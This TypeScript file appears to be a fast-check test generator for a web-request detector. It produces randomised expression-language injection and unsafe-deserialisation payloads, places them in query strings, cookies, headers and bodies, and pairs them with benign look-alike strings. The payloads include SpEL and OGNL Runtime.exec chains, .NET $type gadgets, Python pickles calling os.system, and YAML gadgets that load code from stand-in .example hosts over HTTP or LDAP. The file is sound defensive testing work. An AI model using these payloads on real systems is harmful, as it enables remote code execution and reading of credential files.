// Expression-language and deserialisation injection, as exploit tools shape it: SpEL type
// references `T(...)` with blanks and any delimiter, OGNL `#context`/`#_memberAccess`/`@class@method`
// chains, MVEL and EL (`${...}`, `#{...}`) reaching the runtime through scoped objects and
// reflection, Razor `@System...` calls and Go template probes; serialised objects: Java streams
// in base64 (rO0AB) and hex (aced0005) with random bodies, PHP `O:N:"Class":...` objects (raw,
// URL- or base64-encoded), .NET `$type` gadgets (TypeNameHandling) and BinaryFormatter/ViewState
// blobs; placed in queries, forms, JSON, cookies, headers and raw bodies.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { place, type Position } from "./positions.js";
import { rng, type R } from "./rng.js";

const pickR = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const word = (r: R, n = 5) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");
const sp = (r: R) => pickR(r, ["", "", " ", "  "]);
const cmd = (r: R) => pickR(r, ["id", "whoami", "cat /etc/passwd", "calc", "nslookup " + word(r) + ".oast.example", "touch /tmp/" + word(r)]);
/** Random bytes as a serialised stream's body would carry them (class descriptors, fields). */
const bytes = (r: R, n: number) => Buffer.from(Array.from({ length: n }, () => r(256)));

type Gen = (r: R) => string;

const SPEL: Gen[] = [
  (r) => `${pickR(r, ["${", "#{", "*{", "@{"])}T${sp(r)}(${sp(r)}java.lang.${pickR(r, ["Runtime", "System", "Thread"])}${sp(r)})${sp(r)}.${pickR(r, ["getRuntime().exec('" + cmd(r) + "')", "getenv()", "getProperty('user.dir')", "sleep(5000)"])}}`,
  (r) => `T(java.lang.Runtime).getRuntime().exec(new String[]{${pickR(r, ["'sh','-c'", "'cmd','/c'", "'bash','-c'"])},'${cmd(r)}'})`,
  (r) => `#{new java.lang.ProcessBuilder(${pickR(r, ["'" + cmd(r) + "'", "{'sh','-c','" + cmd(r) + "'}"])}).start()}`,
  (r) => `\${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('${cmd(r)}').getInputStream())}`,
  (r) => `#{T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/${pickR(r, ["passwd", "hosts", "shadow"])}'))}`,
  (r) => `\${new javax.script.ScriptEngineManager().getEngineByName('${pickR(r, ["js", "nashorn", "javascript"])}').eval('${word(r)}')}`,
];
const OGNL: Gen[] = [
  (r) => `%{#context['xwork.MethodAccessor.denyMethodExecution']=false,#${word(r, 1)}=@java.lang.Runtime@getRuntime().exec('${cmd(r)}')}`,
  (r) => `\${#_memberAccess["allowStaticMethodAccess"]=true,@java.lang.Runtime@getRuntime().exec('${cmd(r)}')}`,
  (r) => `%{(#${word(r, 2)}='${cmd(r)}').(#${word(r, 3)}=@java.lang.System@getProperty('os.name')).(#p=new java.lang.ProcessBuilder(#${word(r, 2)})).(#p.start())}`,
  (r) => `(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('${cmd(r)}'))`,
  (r) => `%{@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('${cmd(r)}').getInputStream())}`,
  (r) => `${pickR(r, ["%{", "${"])}#${pickR(r, ["application", "session", "request", "parameters", "attr"])}['${word(r)}']${r(2) ? "" : ".toString()"}}`,
  (r) => `%{${1 + r(99)}*${1 + r(99)}}`,
];
const MVEL_EL: Gen[] = [
  (r) => `@{java.lang.Runtime.getRuntime().exec('${cmd(r)}')}`,
  (r) => `${pickR(r, ["${", "#{"])}pageContext.request.getSession().setAttribute('${word(r)}',1)}`,
  (r) => `\${${pickR(r, ["applicationScope", "sessionScope", "requestScope", "initParam", "pageContext.servletContext", "facesContext.externalContext"])}${pickR(r, [".getClass()", "['" + word(r) + "']", ".attributeNames"])}}`,
  (r) => `${pickR(r, ["${", "#{"])}"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("${cmd(r)}")}`,
  (r) => `#{request.getClass().getClassLoader().loadClass('java.lang.Runtime')}`,
  (r) => `\${facesContext.getExternalContext().getResponse().getWriter().print('${word(r)}')}`,
  (r) => `Runtime.getRuntime().exec("${cmd(r)}");`,
];
const RAZOR_GO: Gen[] = [
  (r) => `@System.Diagnostics.Process.Start("${pickR(r, ["cmd.exe", "powershell", "calc.exe", "/bin/sh"])}"${r(2) ? `,"/c ${cmd(r)}"` : ""})`,
  (r) => `@{ System.Diagnostics.Process.Start("${pickR(r, ["cmd.exe", "calc"])}"); }`,
  (r) => `@System.IO.File.${pickR(r, ["ReadAllText", "ReadAllLines", "Exists"])}("${pickR(r, ["C:\\\\Windows\\\\win.ini", "/etc/passwd", "web.config"])}")`,
  (r) => `@(System.Environment.${pickR(r, ["MachineName", "UserName", "GetEnvironmentVariable(\"PATH\")"])})`,
  (r) => `{{printf "%${pickR(r, ["s", "v", "d", "q", "x"])}" ${pickR(r, [`"${word(r)}"`, String(r(9999)), ".", "$"])}}}`,
  (r) => `{{ ${pickR(r, ["print", "println", "html", "js", "urlquery"])} "${word(r)}" }}`,
  (r) => `{{define "${word(r, 3)}"}}${word(r)}{{end}}{{template "${word(r, 3)}"}}`,
  (r) => `{{ ${pickR(r, ["index . \"" + word(r) + "\"", "call ." + word(r).toUpperCase(), "range $k, $v := ." + pickR(r, ["Env", "Request.Header"])])} }}${r(2) ? "{{ $k }}{{end}}" : ""}`,
];

const javaB64 = (r: R) => Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]), bytes(r, 20 + r(60))]).toString("base64");
const javaHex = (r: R) => Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05]), bytes(r, 16 + r(40))]).toString("hex");
/** A PHP serialised object graph with random class, property and value names. */
function phpObject(r: R, depth = 0): string {
  const cls = pickR(r, ["", "App\\", "Monolog\\Handler\\", "Illuminate\\Broadcasting\\", "GuzzleHttp\\Cookie\\"]) + word(r, 4 + r(6)).replace(/^./, (c) => c.toUpperCase());
  const props = 1 + r(3);
  const body: string[] = [];
  for (let k = 0; k < props; k++) {
    const name = (r(3) === 0 ? "\0*\0" : "") + word(r, 3 + r(5));
    body.push(`s:${Buffer.byteLength(name)}:"${name}";`);
    const v = r(4);
    if (v === 0 && depth < 1) body.push(phpObject(r, depth + 1));
    else if (v === 1) body.push(`i:${r(999)};`);
    else if (v === 2) body.push("b:1;");
    else { const s = pickR(r, ["system", "/etc/passwd", "id", word(r)]); body.push(`s:${s.length}:"${s}";`); }
  }
  return `O:${Buffer.byteLength(cls)}:"${cls}":${props}:{${body.join("")}}`;
}
const SERIAL: Gen[] = [
  (r) => javaB64(r),
  (r) => javaHex(r),
  (r) => phpObject(r),
  (r) => `a:${1 + r(2)}:{i:0;${phpObject(r)}${r(2) ? "i:1;s:1:\"x\";" : ""}}`,
  (r) => Buffer.from(phpObject(r)).toString("base64"),
  (r) => JSON.stringify({ "$type": pickR(r, ["System.Windows.Data.ObjectDataProvider, PresentationFramework", "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install", "System.Web.Security.RolePrincipal, System.Web", "System.IO.FileInfo, System.IO.FileSystem"]), MethodName: "Start", ObjectInstance: { "$type": "System.Diagnostics.Process, System", StartInfo: { FileName: "cmd", Arguments: `/c ${cmd(r)}` } } }),
  (r) => `{"$type":"${pickR(r, ["System.Windows.Forms.AxHost+State, System.Windows.Forms", "System.Security.Claims.ClaimsIdentity, mscorlib", "System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework]], System.Data.Services"])}","${word(r)}":"${Buffer.from(word(r, 12)).toString("base64")}"}`,
  (r) => Buffer.concat([Buffer.from([0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00, 0x00, 0x00]), bytes(r, 24 + r(40))]).toString("base64"), // BinaryFormatter
  (r) => "/wEy" + Buffer.concat([bytes(r, 30 + r(60))]).toString("base64"), // ViewState (LosFormatter, MAC-less)
];

/** A Python pickle (protocol 0 text) that imports a callable and calls it: GLOBAL, MARK, args, TUPLE, REDUCE, STOP. */
const pickle0 = (r: R) => `c${pickR(r, ["os", "posix", "subprocess", "builtins", "__builtin__", "nt"])}\n${pickR(r, ["system", "popen", "check_output", "eval", "exec"])}\n(${pickR(r, ["S", "V"])}'${cmd(r)}'\ntR.`;
/** The same call as a binary pickle (protocol 2-5): PROTO, GLOBAL, args, TUPLE1, REDUCE, STOP. */
function pickleBinary(r: R): string {
  const mod = pickR(r, ["os", "posix", "subprocess"]);
  const fn = pickR(r, ["system", "popen"]);
  const arg = Buffer.from(cmd(r));
  const proto = 2 + r(4);
  return Buffer.concat([Buffer.from([0x80, proto]), Buffer.from(`c${mod}\n${fn}\n`), Buffer.from([0x58]), Buffer.from(Uint32Array.of(arg.length).buffer), arg, Buffer.from([0x85, 0x52, 0x2e])]).toString("base64");
}
const SCRIPT_SERIAL: Gen[] = [
  (r) => `!!python/object/apply:${pickR(r, ["os.system", "subprocess.check_output", "os.popen", "builtins.eval"])} [${JSON.stringify(cmd(r))}]`,
  (r) => `${word(r)}: !!python/object/new:${pickR(r, ["subprocess.Popen", "os.system", "type"])}\n  args: [${JSON.stringify(cmd(r))}]`,
  (r) => `- !ruby/object:Gem::${pickR(r, ["Installer", "Requirement", "SpecFetcher", "Package::TarReader"])}\n  i: ${word(r)}`,
  (r) => `--- !ruby/hash:${pickR(r, ["ActionController::Routing::RouteSet::NamedRouteCollection", "Gem::Requirement"])}\n${word(r)}: x`,
  (r) => `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://${word(r)}.example/\"]]]]`,
  (r) => `{${word(r)}: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://${word(r)}.example/a", autoCommit: true}}`,
  (r) => pickle0(r),
  (r) => Buffer.from(pickle0(r)).toString("base64"),
  (r) => pickleBinary(r),
];

export const FAMILIES: Record<string, Gen[]> = { spel: SPEL, ognl: OGNL, "mvel-el": MVEL_EL, "razor-go": RAZOR_GO, serial: SERIAL, "yaml-pickle": SCRIPT_SERIAL };
const NAMES = Object.keys(FAMILIES);

/** Where a tool puts it: positions.ts, a cookie named like a session, a raw serialised body, a ViewState field. */
function placeExpr(family: string, value: string, k: number, n: number): Req {
  const POS: Position[] = ["query", "form", "json", "cookie", "header"];
  if (k < POS.length) return place(value, POS[k], n, n % 4 === 0);
  const host: [string, string] = ["host", "svc.local"];
  if (family === "yaml-pickle" && k === 5) return { method: "POST", path: "/api/config", headers: [host, ["content-type", value.startsWith("!") || value.includes(": ") || value.startsWith("-") ? "application/x-yaml" : "application/octet-stream"]], body: value };
  if (family === "serial" && k === 5) {
    if (value.startsWith("/wEy")) return { method: "POST", path: "/Default.aspx", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `__VIEWSTATE=${encodeURIComponent(value)}&__VIEWSTATEGENERATOR=CA0B0334&btn=Go` };
    return { method: "POST", path: "/api/import", headers: [host, ["content-type", value.startsWith("{") ? "application/json" : "text/plain"]], body: value };
  }
  return { method: "GET", path: "/app/home", headers: [host, ["cookie", `${pickName(n)}=${encodeURIComponent(value)}; lang=en`]] };
}
const pickName = (n: number) => ["session", "rememberMe", "user_data", "auth", "state"][n % 5];

export interface ExprAttack { value: string; family: string; req: Req; pos: string }

export const exprAttack: fc.Arbitrary<ExprAttack> = fc.record({ seed: fc.nat(), f: fc.nat(NAMES.length - 1), g: fc.nat(20), k: fc.nat(6), n: fc.nat(19) }).map(({ seed, f, g, k, n }) => {
  const r = rng(seed);
  const family = NAMES[f];
  const list = FAMILIES[family];
  let value = list[g % list.length](r);
  // (a header holds no line feed: a text pickle goes there base64-encoded)
  if (k === 4 && /^c\w+\n/.test(value)) value = Buffer.from(value).toString("base64");
  return { value, family, req: placeExpr(family, value, k, n), pos: `${family}/${k}` };
});

/** Values with the same markers used honestly: placeholders, type names in docs, base64 images, version strings. */
export const exprBenign: fc.Arbitrary<string> = fc.constantFrom(
  "Hello ${name}, your order #{id} shipped", "T(ea) for two", "see the #context section", "@media print { body { margin: 0 } }", "user@example.com",
  "support@System.example.com", "Follow @Microsoft.Teams.Dev for news", "@System.IO is where files live", "#session[2] notes", "see #request-42",
  "/wEPDwUKMTIzNDU2Nzg5MA9kFgICAw9kFgICAQ8PFgIeBFRleHQFBUhlbGxvZGRk", "AAAAAAAAAAAAAAAAAAAAAA==", "AAEAAAB0ZXN0", "{{ len }} returns a length", "{{ index }}",
  "${sessionScope} is an EL object", "key: !!str 123", "data: !!binary R0lGODlh", "Value: !Ref MyBucket", "Wow!!this/that is great", "cats.", "gAAAAABhZ2VudF9pZA==",
  "config: !include conf/app.yaml", "great!!! see a/b.c",  "pageContext is documented in JSP 2.0", "O:5 is the room number", "a:1 ratio", "{{ .Title }} - {{ .Date }}",
  "{{ printf }} explained in the Go docs", "rO0 is not a word", "aced the exam", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "@Model.Name", "Price: @(item.Price)", "System.Diagnostics is a .NET namespace", "process start time: 10:00", "Runtime error in line 3", "/wE is a prefix",
);
